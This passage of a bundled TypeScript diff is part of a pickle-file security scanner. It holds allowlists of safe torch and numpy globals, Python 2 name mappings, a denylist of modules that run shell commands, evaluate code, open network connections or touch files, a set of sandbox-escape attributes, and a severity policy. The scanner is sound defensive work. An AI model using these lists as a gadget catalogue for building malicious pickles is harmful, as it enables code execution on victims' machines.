+  ".lzma",
+  ".7z",
+  ".zip",
+  ".tar"
+];
+
+// src/artifacts/pickle/allowlist.ts
+var TORCH_STORAGE_TYPES = [
+  "Double",
+  "Float",
+  "Half",
+  "Long",
+  "Int",
+  "Short",
+  "Char",
+  "Byte",
+  "Bool",
+  "BFloat16",
+  "ComplexDouble",
+  "ComplexFloat",
+  "QUInt8",
+  "QInt8",
+  "QInt32",
+  "QUInt4x2",
+  "QUInt2x4"
+].map((t) => `torch.${t}Storage`);
+var TORCH_DTYPES = [
+  "float64",
+  "double",
+  "float32",
+  "float",
+  "float16",
+  "half",
+  "bfloat16",
+  "int64",
+  "long",
+  "int32",
+  "int",
+  "int16",
+  "short",
+  "int8",
+  "uint8",
+  "uint16",
+  "uint32",
+  "uint64",
+  "bool",
+  "complex32",
+  "complex64",
+  "complex128",
+  "cfloat",
+  "cdouble",
+  "chalf",
+  "qint8",
+  "quint8",
+  "qint32",
+  "quint4x2",
+  "quint2x4",
+  "float8_e4m3fn",
+  "float8_e5m2",
+  "float8_e4m3fnuz",
+  "float8_e5m2fnuz",
+  "bits8",
+  "bits16"
+].map((d) => `torch.${d}`);
+var TORCH_REBUILD = [
+  "_rebuild_tensor",
+  "_rebuild_tensor_v2",
+  "_rebuild_tensor_v3",
+  "_rebuild_parameter",
+  "_rebuild_parameter_with_state",
+  "_rebuild_qtensor",
+  "_rebuild_sparse_tensor",
+  "_rebuild_sparse_csr_tensor",
+  "_rebuild_nested_tensor",
+  "_rebuild_device_tensor_from_numpy",
+  "_rebuild_meta_tensor_no_storage",
+  "_rebuild_wrapper_subclass",
+  "_rebuild_device_tensor_from_cpu_tensor"
+].map((f) => `torch._utils.${f}`);
+var TORCH_MISC = [
+  "torch.Size",
+  "torch.device",
+  "torch.dtype",
+  "torch.Tensor",
+  "torch._tensor.Tensor",
+  "torch.nn.parameter.Parameter",
+  "torch.nn.Parameter",
+  "torch.storage.UntypedStorage",
+  "torch.UntypedStorage",
+  "torch.storage.TypedStorage",
+  "torch.TypedStorage",
+  "torch.storage._TypedStorage",
+  "torch._tensor._rebuild_from_type_v2",
+  "torch.per_tensor_affine",
+  "torch.per_channel_affine",
+  "torch.per_tensor_symmetric",
+  "torch.per_channel_symmetric",
+  "torch.per_channel_affine_float_qparams",
+  "torch.contiguous_format",
+  "torch.channels_last",
+  "torch.channels_last_3d",
+  "torch.preserve_format",
+  "torch.strided",
+  "torch.sparse_coo",
+  "torch.sparse_csr",
+  "torch.sparse_csc",
+  "torch.sparse_bsr",
+  "torch.sparse_bsc",
+  "torch._mkldnn",
+  "torch.serialization._get_layout"
+];
+var PYTHON_BUILTINS2 = [
+  "set",
+  "frozenset",
+  "list",
+  "dict",
+  "tuple",
+  "complex",
+  "bytearray",
+  "bytes",
+  "slice",
+  "range",
+  "bool",
+  "int",
+  "float",
+  "str",
+  "object",
+  "NoneType",
+  "Ellipsis",
+  "NotImplemented"
+].map((b) => `builtins.${b}`);
+var NUMPY = [
+  "numpy.core.multiarray._reconstruct",
+  "numpy.core.multiarray.scalar",
+  "numpy._core.multiarray._reconstruct",
+  "numpy._core.multiarray.scalar",
+  "numpy.ndarray",
+  "numpy.dtype",
+  "numpy.core.numeric._frombuffer",
+  "numpy._core.numeric._frombuffer",
+  "numpy.dtypes.*",
+  "numpy.ma.core._mareconstruct",
+  ...[
+    "bool_",
+    "int8",
+    "int16",
+    "int32",
+    "int64",
+    "uint8",
+    "uint16",
+    "uint32",
+    "uint64",
+    "float16",
+    "float32",
+    "float64",
+    "longdouble",
+    "complex64",
+    "complex128",
+    "clongdouble",
+    "str_",
+    "bytes_",
+    "void",
+    "object_",
+    "datetime64",
+    "timedelta64",
+    "intc",
+    "uintc",
+    "longlong",
+    "ulonglong"
+  ].map((t) => `numpy.${t}`)
+];
+var STDLIB = [
+  "collections.OrderedDict",
+  "collections.Counter",
+  "collections.defaultdict",
+  "collections.deque",
+  "_codecs.encode",
+  "codecs.encode",
+  "copyreg._reconstructor",
+  "copyreg.__newobj__",
+  "copyreg.__newobj_ex__",
+  "datetime.datetime",
+  "datetime.date",
+  "datetime.time",
+  "datetime.timedelta",
+  "datetime.timezone",
+  "decimal.Decimal",
+  "fractions.Fraction",
+  "uuid.UUID",
+  "enum.Enum"
+];
+var JOBLIB = [
+  "joblib.numpy_pickle.NumpyArrayWrapper",
+  "joblib.numpy_pickle_compat.NDArrayWrapper",
+  "joblib.numpy_pickle_compat.ZNDArrayWrapper"
+];
+var ALLOWLIST = [
+  ...TORCH_STORAGE_TYPES,
+  ...TORCH_DTYPES,
+  ...TORCH_REBUILD,
+  ...TORCH_MISC,
+  ...PYTHON_BUILTINS2,
+  ...NUMPY,
+  ...STDLIB,
+  ...JOBLIB
+];
+var ALLOWED_ONLY_WITH_SAFE_CLASS_ARGS = /* @__PURE__ */ new Set([
+  "copyreg._reconstructor",
+  "copyreg.__newobj__",
+  "copyreg.__newobj_ex__",
+  "collections.defaultdict"
+]);
+
+// src/artifacts/pickle/compat-mapping.ts
+var IMPORT_MAPPING = /* @__PURE__ */ new Map([
+  ["__builtin__", "builtins"],
+  ["copy_reg", "copyreg"],
+  ["Queue", "queue"],
+  ["SocketServer", "socketserver"],
+  ["ConfigParser", "configparser"],
+  ["repr", "reprlib"],
+  ["tkFileDialog", "tkinter.filedialog"],
+  ["tkSimpleDialog", "tkinter.simpledialog"],
+  ["tkColorChooser", "tkinter.colorchooser"],
+  ["tkCommonDialog", "tkinter.commondialog"],
+  ["Dialog", "tkinter.dialog"],
+  ["Tkdnd", "tkinter.dnd"],
+  ["tkFont", "tkinter.font"],
+  ["tkMessageBox", "tkinter.messagebox"],
+  ["ScrolledText", "tkinter.scrolledtext"],
+  ["Tkconstants", "tkinter.constants"],
+  ["Tix", "tkinter.tix"],
+  ["ttk", "tkinter.ttk"],
+  ["Tkinter", "tkinter"],
+  ["markupbase", "_markupbase"],
+  ["_winreg", "winreg"],
+  ["thread", "_thread"],
+  ["dummy_thread", "_dummy_thread"],
+  ["dbhash", "dbm.bsd"],
+  ["dumbdbm", "dbm.dumb"],
+  ["dbm", "dbm.ndbm"],
+  ["gdbm", "dbm.gnu"],
+  ["xmlrpclib", "xmlrpc.client"],
+  ["SimpleXMLRPCServer", "xmlrpc.server"],
+  ["httplib", "http.client"],
+  ["htmlentitydefs", "html.entities"],
+  ["HTMLParser", "html.parser"],
+  ["Cookie", "http.cookies"],
+  ["cookielib", "http.cookiejar"],
+  ["BaseHTTPServer", "http.server"],
+  ["test.test_support", "test.support"],
+  ["commands", "subprocess"],
+  ["urlparse", "urllib.parse"],
+  ["robotparser", "urllib.robotparser"],
+  ["urllib2", "urllib.request"],
+  ["anydbm", "dbm"],
+  ["_abcoll", "collections.abc"],
+  ["cPickle", "pickle"],
+  ["_elementtree", "xml.etree.ElementTree"],
+  ["FileDialog", "tkinter.filedialog"],
+  ["SimpleDialog", "tkinter.simpledialog"],
+  ["DocXMLRPCServer", "xmlrpc.server"],
+  ["SimpleHTTPServer", "http.server"],
+  ["CGIHTTPServer", "http.server"],
+  ["UserDict", "collections"],
+  ["UserList", "collections"],
+  ["UserString", "collections"],
+  ["whichdb", "dbm"],
+  ["StringIO", "io"],
+  ["cStringIO", "io"]
+]);
+var NAME_MAPPING = /* @__PURE__ */ new Map([
+  ["__builtin__\0xrange", ["builtins", "range"]],
+  ["__builtin__\0reduce", ["functools", "reduce"]],
+  ["__builtin__\0intern", ["sys", "intern"]],
+  ["__builtin__\0unichr", ["builtins", "chr"]],
+  ["__builtin__\0unicode", ["builtins", "str"]],
+  ["__builtin__\0long", ["builtins", "int"]],
+  ["itertools\0izip", ["builtins", "zip"]],
+  ["itertools\0imap", ["builtins", "map"]],
+  ["itertools\0ifilter", ["builtins", "filter"]],
+  ["itertools\0ifilterfalse", ["itertools", "filterfalse"]],
+  ["itertools\0izip_longest", ["itertools", "zip_longest"]],
+  ["UserDict\0IterableUserDict", ["collections", "UserDict"]],
+  ["UserList\0UserList", ["collections", "UserList"]],
+  ["UserString\0UserString", ["collections", "UserString"]],
+  ["whichdb\0whichdb", ["dbm", "whichdb"]],
+  ["_socket\0fromfd", ["socket", "fromfd"]],
+  ["_multiprocessing\0Connection", ["multiprocessing.connection", "Connection"]],
+  ["multiprocessing.process\0Process", ["multiprocessing.context", "Process"]],
+  ["multiprocessing.forking\0Popen", ["multiprocessing.popen_fork", "Popen"]],
+  ["urllib\0ContentTooShortError", ["urllib.error", "ContentTooShortError"]],
+  ["urllib\0getproxies", ["urllib.request", "getproxies"]],
+  ["urllib\0pathname2url", ["urllib.request", "pathname2url"]],
+  ["urllib\0quote_plus", ["urllib.parse", "quote_plus"]],
+  ["urllib\0quote", ["urllib.parse", "quote"]],
+  ["urllib\0unquote_plus", ["urllib.parse", "unquote_plus"]],
+  ["urllib\0unquote", ["urllib.parse", "unquote"]],
+  ["urllib\0url2pathname", ["urllib.request", "url2pathname"]],
+  ["urllib\0urlcleanup", ["urllib.request", "urlcleanup"]],
+  ["urllib\0urlencode", ["urllib.parse", "urlencode"]],
+  ["urllib\0urlopen", ["urllib.request", "urlopen"]],
+  ["urllib\0urlretrieve", ["urllib.request", "urlretrieve"]],
+  ["urllib2\0HTTPError", ["urllib.error", "HTTPError"]],
+  ["urllib2\0URLError", ["urllib.error", "URLError"]],
+  ["exceptions\0ArithmeticError", ["builtins", "ArithmeticError"]],
+  ["exceptions\0AssertionError", ["builtins", "AssertionError"]],
+  ["exceptions\0AttributeError", ["builtins", "AttributeError"]],
+  ["exceptions\0BaseException", ["builtins", "BaseException"]],
+  ["exceptions\0BufferError", ["builtins", "BufferError"]],
+  ["exceptions\0BytesWarning", ["builtins", "BytesWarning"]],
+  ["exceptions\0DeprecationWarning", ["builtins", "DeprecationWarning"]],
+  ["exceptions\0EOFError", ["builtins", "EOFError"]],
+  ["exceptions\0EnvironmentError", ["builtins", "EnvironmentError"]],
+  ["exceptions\0Exception", ["builtins", "Exception"]],
+  ["exceptions\0FloatingPointError", ["builtins", "FloatingPointError"]],
+  ["exceptions\0FutureWarning", ["builtins", "FutureWarning"]],
+  ["exceptions\0GeneratorExit", ["builtins", "GeneratorExit"]],
+  ["exceptions\0IOError", ["builtins", "IOError"]],
+  ["exceptions\0ImportError", ["builtins", "ImportError"]],
+  ["exceptions\0ImportWarning", ["builtins", "ImportWarning"]],
+  ["exceptions\0IndentationError", ["builtins", "IndentationError"]],
+  ["exceptions\0IndexError", ["builtins", "IndexError"]],
+  ["exceptions\0KeyError", ["builtins", "KeyError"]],
+  ["exceptions\0KeyboardInterrupt", ["builtins", "KeyboardInterrupt"]],
+  ["exceptions\0LookupError", ["builtins", "LookupError"]],
+  ["exceptions\0MemoryError", ["builtins", "MemoryError"]],
+  ["exceptions\0NameError", ["builtins", "NameError"]],
+  ["exceptions\0NotImplementedError", ["builtins", "NotImplementedError"]],
+  ["exceptions\0OSError", ["builtins", "OSError"]],
+  ["exceptions\0OverflowError", ["builtins", "OverflowError"]],
+  ["exceptions\0PendingDeprecationWarning", ["builtins", "PendingDeprecationWarning"]],
+  ["exceptions\0ReferenceError", ["builtins", "ReferenceError"]],
+  ["exceptions\0RuntimeError", ["builtins", "RuntimeError"]],
+  ["exceptions\0RuntimeWarning", ["builtins", "RuntimeWarning"]],
+  ["exceptions\0StopIteration", ["builtins", "StopIteration"]],
+  ["exceptions\0SyntaxError", ["builtins", "SyntaxError"]],
+  ["exceptions\0SyntaxWarning", ["builtins", "SyntaxWarning"]],
+  ["exceptions\0SystemError", ["builtins", "SystemError"]],
+  ["exceptions\0SystemExit", ["builtins", "SystemExit"]],
+  ["exceptions\0TabError", ["builtins", "TabError"]],
+  ["exceptions\0TypeError", ["builtins", "TypeError"]],
+  ["exceptions\0UnboundLocalError", ["builtins", "UnboundLocalError"]],
+  ["exceptions\0UnicodeDecodeError", ["builtins", "UnicodeDecodeError"]],
+  ["exceptions\0UnicodeEncodeError", ["builtins", "UnicodeEncodeError"]],
+  ["exceptions\0UnicodeError", ["builtins", "UnicodeError"]],
+  ["exceptions\0UnicodeTranslateError", ["builtins", "UnicodeTranslateError"]],
+  ["exceptions\0UnicodeWarning", ["builtins", "UnicodeWarning"]],
+  ["exceptions\0UserWarning", ["builtins", "UserWarning"]],
+  ["exceptions\0ValueError", ["builtins", "ValueError"]],
+  ["exceptions\0Warning", ["builtins", "Warning"]],
+  ["exceptions\0ZeroDivisionError", ["builtins", "ZeroDivisionError"]],
+  ["multiprocessing\0AuthenticationError", ["multiprocessing.context", "AuthenticationError"]],
+  ["multiprocessing\0BufferTooShort", ["multiprocessing.context", "BufferTooShort"]],
+  ["multiprocessing\0ProcessError", ["multiprocessing.context", "ProcessError"]],
+  ["multiprocessing\0TimeoutError", ["multiprocessing.context", "TimeoutError"]],
+  ["__builtin__\0basestring", ["builtins", "str"]],
+  ["exceptions\0StandardError", ["builtins", "Exception"]],
+  ["UserDict\0UserDict", ["collections", "UserDict"]],
+  ["socket\0_socketobject", ["socket", "SocketType"]]
+]);
+
+// src/artifacts/pickle/denylist.ts
+var CMD = "runs shell commands or programs";
+var CODE = "evaluates or compiles arbitrary Python code";
+var ATTR = "reaches arbitrary attributes (gadget for calling anything)";
+var IMPORT = "imports arbitrary modules";
+var LOADS = "deserializes nested data (nested pickle or unsafe loader)";
+var NET = "performs network access";
+var FILE = "reads, writes or deletes files";
+var DEBUG = "debugger/profiler/REPL entry point that runs code";
+var NATIVE = "loads native code or manipulates memory";
+var INSTALL = "installs packages or runs build scripts";
+var PROC = "spawns processes, threads or signal handlers";
+function group(reason2, names) {
+  return names.map((name2) => ({ name: name2, reason: reason2 }));
+}
+var DENYLIST = [
+  ...group(CMD, [
+    "os",
+    "posix",
+    "nt",
+    "subprocess",
+    "commands",
+    "popen2",
+    "pty",
+    "_posixsubprocess",
+    "asyncio.subprocess",
+    "asyncio.create_subprocess_exec",
+    "asyncio.create_subprocess_shell",
+    "asyncio.base_events",
+    "asyncio.unix_events",
+    "asyncio.windows_events",
+    "platform.popen",
+    "pexpect",
+    "sh",
+    "plumbum",
+    "fabric",
+    "paramiko",
+    "invoke",
+    "uuid._get_command_stdout"
+  ]),
+  ...group(CODE, [
+    "builtins.eval",
+    "builtins.exec",
+    "builtins.compile",
+    "builtins.execfile",
+    "builtins.apply",
+    "builtins.breakpoint",
+    "builtins.input",
+    "builtins.raw_input",
+    "builtins.help",
+    "builtins.exit",
+    "builtins.quit",
+    "code",
+    "codeop",
+    "runpy",
+    "types.CodeType",
+    "types.FunctionType",
+    "types.LambdaType",
+    "types.MethodType",
+    "types.ModuleType",
+    "marshal",
+    "timeit",
+    "doctest",
+    "pydoc",
+    "pydoc_data",
+    "idlelib",
+    "lib2to3",
+    "numpy.testing._private.utils.runstring",
+    "numpy.f2py",
+    "numpy.distutils",
+    "IPython",
+    "jinja2",
+    "torch._inductor",
+    "torch.jit",
+    "torch.package",
+    "torch.utils.cpp_extension",
+    "torch._dynamo",
+    "torch.fx.experimental.symbolic_shapes",
+    "torch.compile",
+    "torch._C._jit_script_compile",
+    "torch.testing._internal",
+    "keras.layers.Lambda",
+    "tensorflow.keras.layers.Lambda",
+    "tf_keras.layers.Lambda",
+    "tensorflow.python.ops.script_ops",
+    "tensorflow.io",
+    "tensorflow.compat.v1.py_func",
+    "tensorflow.py_function",
+    "tensorflow.numpy_function",
+    "dill._dill._create_function",
+    "dill._dill._create_code",
+    "dill._dill._load_type",
+    "dill.source",
+    "cloudpickle.cloudpickle._make_function",
+    "cloudpickle.cloudpickle._builtin_type",
+    "cloudpickle.cloudpickle_fast",
+    "sympy.parsing",
+    "sympy.sympify",
+    "pandas.eval",
+    "pandas.core.computation",
+    "numexpr"
+  ]),
+  ...group(ATTR, [
+    "builtins.getattr",
+    "builtins.setattr",
+    "builtins.delattr",
+    "builtins.globals",
+    "builtins.locals",
+    "builtins.vars",
+    "builtins.__builtins__",
+    "builtins.__loader__",
+    "operator.attrgetter",
+    "operator.methodcaller",
+    "operator.getitem",
+    "operator.setitem",
+    "operator.delitem",
+    "operator.call",
+    "_operator.attrgetter",
+    "_operator.methodcaller",
+    "_operator.getitem",
+    "functools.partial",
+    "functools.reduce",
+    "functools.partialmethod",
+    "functools.singledispatch",
+    "functools.update_wrapper",
+    "_functools",
+    "inspect",
+    "gc",
+    "sys",
+    "copyreg.add_extension",
+    "copyreg.constructor",
+    "copyreg.pickle",
+    "_thread",
+    "site"
+  ]),
+  ...group(IMPORT, [
+    "importlib",
+    "builtins.__import__",
+    "imp",
+    "pkgutil",
+    "zipimport",
+    "modulefinder",
+    "builtins.__build_class__",
+    "_imp",
+    "_frozen_importlib",
+    "_frozen_importlib_external"
+  ]),
+  ...group(LOADS, [
+    "pickle",
+    "_pickle",
+    "cPickle",
+    "pickletools",
+    "dill",
+    "cloudpickle",
+    "jsonpickle",
+    "shelve",
+    // joblib's array wrappers (NumpyArrayWrapper, NDArrayWrapper) are plain data; its loaders and workers are not.
+    "joblib.load",
+    "joblib.numpy_pickle.load",
+    "joblib.numpy_pickle._unpickle",
+    "joblib.numpy_pickle.NumpyUnpickler",
+    "joblib.numpy_pickle_compat.load_compatibility",
+    "joblib.memory",
+    "joblib.Memory",
+    "joblib.parallel",
+    "joblib.Parallel",
+    "joblib.delayed",
+    "joblib._parallel_backends",
+    "joblib.pool",
+    "joblib._store_backends",
+    "joblib.externals",
+    "joblib.func_inspect",
+    "joblib.hashing",
+    "dbm",
+    "torch.load",
+    "torch.serialization",
+    "torch.storage._load_from_bytes",
+    "torch._weights_only_unpickler",
+    "torch.hub",
+    "torch.utils.model_zoo",
+    "torch.distributed.rpc",
+    "torch.multiprocessing",
+    "numpy.load",
+    "numpy.lib.npyio",
+    "numpy.lib.format.read_array",
+    "numpy.loads",
+    "numpy.core.numeric.loads",
+    "numpy.ma.core.loads",
+    "pandas.read_pickle",
+    "pandas.io.pickle",
+    "pandas.compat.pickle_compat",
+    "yaml.load",
+    "yaml.load_all",
+    "yaml.unsafe_load",
+    "yaml.unsafe_load_all",
+    "yaml.full_load",
+    "yaml.full_load_all",
+    "yaml.UnsafeLoader",
+    "yaml.Loader",
+    "yaml.FullLoader",
+    "ruamel.yaml",
+    "xmlrpc",
+    "xmlrpclib",
+    "sklearn.externals.joblib",
+    "keras.models.load_model",
+    "keras.saving",
+    "tensorflow.keras.models.load_model",
+    "skops.io.load",
+    "hydra.utils.instantiate"
+  ]),
+  ...group(NET, [
+    "socket",
+    "_socket",
+    "socketserver",
+    "ssl",
+    "requests",
+    "httpx",
+    "aiohttp",
+    "urllib3",
+    "urllib.request",
+    "urllib2",
+    "urllib.urlopen",
+    "urllib.urlretrieve",
+    "httplib",
+    "http.client",
+    "http.server",
+    "ftplib",
+    "smtplib",
+    "poplib",
+    "imaplib",
+    "nntplib",
+    "telnetlib",
+    "webbrowser",
+    "asyncio.open_connection",
+    "asyncio.start_server",
+    "asyncio.streams",
+    "wsgiref"
+  ]),
+  ...group(FILE, [
+    "builtins.open",
+    "builtins.file",
+    "io.open",
+    "io.open_code",
+    "io.FileIO",
+    "io.TextIOWrapper",
+    "io.BufferedReader",
+    "io.BufferedWriter",
+    "io.BufferedRandom",
+    "_io",
+    "codecs.open",
+    "codecs.StreamReaderWriter",
+    "shutil",
+    "tempfile",
+    "fileinput",
+    "zipfile",
+    "tarfile",
+    "gzip.open",
+    "bz2.open",
+    "lzma.open",
+    "mmap",
+    "fcntl",
+    "numpy.save",
+    "numpy.savetxt",
+    "numpy.fromfile",
+    "numpy.memmap",
+    "numpy.ndarray.tofile",
+    "torch.save",
+    "logging.FileHandler",
+    "logging.config"
+  ]),
+  ...group(DEBUG, [
+    "pdb",
+    "bdb",
+    "trace",
+    "cProfile",
+    "profile",
+    "pstats",
+    "tracemalloc",
+    "faulthandler",
+    "rlcompleter",
+    "readline",
+    "cmd",
+    "atexit"
+  ]),
+  ...group(NATIVE, [
+    "ctypes",
+    "_ctypes",
+    "cffi",
+    "numpy.ctypeslib",
+    "torch.ops.load_library",
+    "torch.classes.load_library",
+    "torch.library",
+    "torch.cuda._utils",
+    "resource"
+  ]),
+  ...group(INSTALL, [
+    "pip",
+    "setuptools",
+    "distutils",
+    "ensurepip",
+    "venv",
+    "virtualenv",
+    "pkg_resources",
+    "conda"
+  ]),
+  ...group(PROC, [
+    "multiprocessing",
+    "_multiprocessing",
+    "concurrent.futures",
+    "threading",
+    "signal",
+    "_signal",
+    "asyncio.run",
+    "asyncio.get_event_loop",
+    "sched"
+  ])
+];
+var DANGEROUS_ATTRIBUTES = /* @__PURE__ */ new Set([
+  "__globals__",
+  "__builtins__",
+  "__subclasses__",
+  "__code__",
+  "__closure__",
+  "__func__",
+  "__self__",
+  "__getattribute__",
+  "__getattr__",
+  "__setattr__",
+  "__delattr__",
+  "__import__",
+  "__loader__",
+  "__spec__",
+  "__reduce__",
+  "__reduce_ex__",
+  "__class__",
+  "__base__",
+  "__bases__",
+  "__mro__",
+  "__dict__",
+  "__init_subclass__",
+  "__call__",
+  "f_globals",
+  "f_locals",
+  "f_builtins",
+  "gi_frame",
+  "tb_frame",
+  "co_code"
+]);
+var MODULE_ATTRIBUTES = /* @__PURE__ */ new Set([
+  "os",
+  "posix",
+  "nt",
+  "subprocess",
+  "sys",
+  "builtins",
+  "importlib",
+  "ctypes",
+  "pickle",
+  "_pickle",
+  "marshal",
+  "shutil",
+  "socket",
+  "pty",
+  "runpy",
+  "multiprocessing"
+]);
+var BUILTINS_ALIASES = /* @__PURE__ */ new Set(["builtins", "__builtin__", "__builtins__"]);
+
+// src/artifacts/pickle/names.ts
+var MAX_PARTS = 32;
+function normalizeGlobal(module2, name2, protocol) {
+  let m = module2;
+  let n = name2;
+  if (protocol < 3) {
+    const mapped = NAME_MAPPING.get(`${m}\0${n}`);
+    if (mapped !== void 0) {
+      m = mapped[0];
+      n = mapped[1];
+    } else {
+      m = IMPORT_MAPPING.get(m) ?? m;
+    }
+  }
+  if (BUILTINS_ALIASES.has(m)) m = "builtins";
+  return { module: m, name: n, qualified: `${m}.${n}` };
+}
+var DENY_REASONS = new Map(DENYLIST.map((e) => [e.name, e.reason]));
+function lookupChain(parts2, from, to) {
+  let chain = BUILTINS_ALIASES.has(parts2[from]) ? "builtins" : parts2[from];
+  for (let i2 = from; i2 <= to; i2++) {
+    if (i2 > from) chain += "." + parts2[i2];
+    const reason2 = DENY_REASONS.get(chain);
+    if (reason2 !== void 0) return { entry: chain, reason: reason2 };
+  }
+  return void 0;
+}
+function matchDenylist(module2, name2) {
+  const moduleParts = module2.split(".");
+  const nameParts = name2.split(".");
+  const parts2 = moduleParts.concat(nameParts).slice(0, MAX_PARTS);
+  const fromRoot = lookupChain(parts2, 0, parts2.length - 1);
+  if (fromRoot !== void 0) return fromRoot;
+  const firstNamePart = moduleParts.length;
+  for (let j = firstNamePart; j < parts2.length; j++) {
+    if (DANGEROUS_ATTRIBUTES.has(parts2[j])) {
+      return { entry: parts2[j], reason: "traverses interpreter internals (sandbox-escape gadget)" };
+    }
+  }
+  for (let j = firstNamePart; j < parts2.length - 1; j++) {
+    const inner = lookupChain(parts2, j, parts2.length - 1);
+    if (inner !== void 0) return inner;
+  }
+  const last = parts2[parts2.length - 1];
+  if (parts2.length > firstNamePart && MODULE_ATTRIBUTES.has(last)) {
+    return lookupChain(parts2, parts2.length - 1, parts2.length - 1) ?? { entry: last, reason: "reaches a dangerous module" };
+  }
+  return void 0;
+}
+var GlobalSet = class {
+  exact = /* @__PURE__ */ new Set();
+  prefixes = [];
+  constructor(entries) {
+    for (const e of entries) {
+      if (e.endsWith(".*")) this.prefixes.push(e.slice(0, -1));
+      else this.exact.add(e);
+    }
+  }
+  has(qualified) {
+    if (this.exact.has(qualified)) return true;
+    for (const p of this.prefixes) if (qualified.startsWith(p)) return true;
+    return false;
+  }
+};
+
+// src/artifacts/pickle/policy.ts
+var SEVERITY_RANK = { critical: 4, high: 3, medium: 2, low: 1 };
+var MAX_ISSUES = 1e3;
+var CLASS_ARG_HELPERS = ALLOWED_ONLY_WITH_SAFE_CLASS_ARGS;
+var allowCache = /* @__PURE__ */ new WeakMap();
+function allowSet(extra) {
+  let set = allowCache.get(extra);
+  if (set === void 0) {
+    set = new GlobalSet([...ALLOWLIST, ...extra]);
+    allowCache.set(extra, set);
+  }
+  return set;
+}
+function maxSeverity(issues) {
+  let best;
+  for (const i2 of issues) if (best === void 0 || SEVERITY_RANK[i2.severity] > SEVERITY_RANK[best]) best = i2.severity;
+  return best;
+}
+function judge(trace, options) {
+  const a = trace.analysis;
+  const issues = [];
+  const add = (issue) => {
+    if (issues.length < MAX_ISSUES) issues.push(issue);
+  };
+  const allowlist = options.policy === "allowlist" ? allowSet(options.allowGlobals) : void 0;
+  const deny = [];
+  const reportedUnknown = /* @__PURE__ */ new Set();
+  for (let i2 = 0; i2 < a.imports.length; i2++) {
+    const imp = a.imports[i2];
+    deny.push(void 0);
+    if (imp.dynamic) {
+      add({
+        kind: "dynamic-global",
+        severity: "critical",
+        message: `STACK_GLOBAL with non-constant operands (${imp.module}, ${imp.name}): the imported name is computed at load time`,
+        offset: imp.offset
+      });
+      continue;
+    }
+    if (imp.opcode.startsWith("EXT")) {
+      add({
+        kind: "extension-code",
+        severity: "critical",
+        message: `${imp.opcode} ${imp.name} imports whatever the copyreg extension registry maps that code to`,
+        offset: imp.offset
+      });
+      continue;
+    }
+    const [module2, name2] = trace.importNormalized[i2];
+    const match = matchDenylist(imp.module, imp.name) ?? matchDenylist(module2, name2);
+    deny[i2] = match;
+    if (match !== void 0) {
+      const used = trace.importUsedAt[i2] >= 0 || trace.argScanExhausted;
+      if (!used) {
+        add({
+          kind: "dangerous-import",
+          severity: "high",
+          message: `Imports ${imp.normalized} (${match.reason}) via ${imp.opcode}`,
+          global: imp.normalized,
+          offset: imp.offset
+        });
+      } else if (trace.importCalledAt[i2] < 0) {
+        add({
+          kind: "dangerous-call",
+          severity: "critical",
+          message: `Passes ${imp.normalized} (${match.reason}) into a call that may invoke it`,
+          global: imp.normalized,
+          offset: trace.importUsedAt[i2] >= 0 ? trace.importUsedAt[i2] : imp.offset
+        });
+      }
+    } else if (allowlist !== void 0 && !allowlist.has(imp.normalized) && !reportedUnknown.has(imp.normalized)) {
+      reportedUnknown.add(imp.normalized);
+      add({
+        kind: "unknown-global",
+        severity: "medium",
+        message: `Imports ${imp.normalized}, which is not on the allowlist`,
+        global: imp.normalized,
+        offset: imp.offset
+      });
+    }
+  }
+  for (let c = 0; c < a.calls.length; c++) {
+    const call = a.calls[c];
+    if (call.opcode === "BUILD") continue;
+    const imp = trace.callCallee[c];
+    const match = imp >= 0 ? deny[imp] : void 0;
+    if (match !== void 0) {
+      add({
+        kind: "dangerous-call",
+        severity: "critical",
+        message: `Calls ${call.callee}(${call.args}) via ${call.opcode}: ${match.reason}`,
+        global: call.callee,
+        offset: call.offset
+      });
+    } else if (allowlist !== void 0 && imp < 0) {
+      add({
+        kind: "unknown-global",
+        severity: "medium",
+        message: `${call.opcode} calls a value that is not an allowlisted global`,
+        offset: call.offset
+      });
+    }
+  }
+  for (const m of trace.mutations) {
+    const imp = a.imports[m.imp];
+    add({
+      kind: "module-mutation",
+      severity: "critical",
+      message: `BUILD sets attributes on the module/class/function ${imp.normalized} itself`,
+      global: imp.normalized,
+      offset: m.offset
+    });
+  }
+  if (allowlist !== void 0) {
+    for (const u of trace.unsafeClassArgs) {
+      add({
+        kind: "unknown-global",
+        severity: "medium",
+        message: `${u.callee} is called with a class argument that is not a plain global`,
+        global: u.callee,
+        offset: u.offset
+      });
+    }
+  }
+  for (const n of a.nested) {
+    const severity = maxSeverity(n.analysis.issues);
+    if (severity !== void 0) {
+      add({
+        kind: "nested-pickle",
+        severity,
+        message: `A pickle embedded in a loads-like call argument is dangerous: ${n.analysis.issues[0].message}`,
+        global: n.analysis.issues[0].global,
+        offset: n.offset
+      });
+    }
+  }
+  if (trace.stoppedBy === "limit" && a.imports.length === 0) {
+    add({
+      kind: "uninspectable",
+      severity: "medium",
+      message: `Analysis stopped at a limit (${a.error?.message ?? "limit reached"}); the rest of the pickle was not inspected`,
+      offset: a.error?.offset
+    });
+  }
+  if (a.error !== void 0 && a.imports.length > 0) {
+    add({
+      kind: "malformed",
+      severity: "high",
+      message: `The pickle is malformed after referencing globals (${a.error.message}); loaders may still run what comes before the error`,
+      offset: a.error.offset
+    });
+  }
+  return issues;
+}
+
+// src/artifacts/pickle/opcodes.ts
+var OP = {
+  MARK: 40,
+  // (
+  STOP: 46,
+  // .
+  POP: 48,
+  // 0
+  POP_MARK: 49,
+  // 1
+  DUP: 50,
+  // 2
+  FLOAT: 70,
+  // F
+  INT: 73,
+  // I
+  BININT: 74,
+  // J
+  BININT1: 75,
+  // K
+  LONG: 76,
+  // L
+  BININT2: 77,
+  // M
+  NONE: 78,
+  // N
+  PERSID: 80,
+  // P
+  BINPERSID: 81,
+  // Q
+  REDUCE: 82,
+  // R
+  STRING: 83,
+  // S
+  BINSTRING: 84,
+  // T
+  SHORT_BINSTRING: 85,
+  // U
+  UNICODE: 86,
+  // V
+  BINUNICODE: 88,
+  // X
+  APPEND: 97,
+  // a
+  BUILD: 98,
+  // b
+  GLOBAL: 99,
+  // c
+  DICT: 100,
+  // d
+  EMPTY_DICT: 125,
+  // }
+  APPENDS: 101,
+  // e
+  GET: 103,
+  // g
+  BINGET: 104,
+  // h
+  INST: 105,
+  // i
+  LONG_BINGET: 106,
+  // j
+  LIST: 108,
+  // l
+  EMPTY_LIST: 93,
+  // ]
+  OBJ: 111,
+  // o
+  PUT: 112,
+  // p
+  BINPUT: 113,
+  // q
+  LONG_BINPUT: 114,
+  // r
+  SETITEM: 115,
+  // s
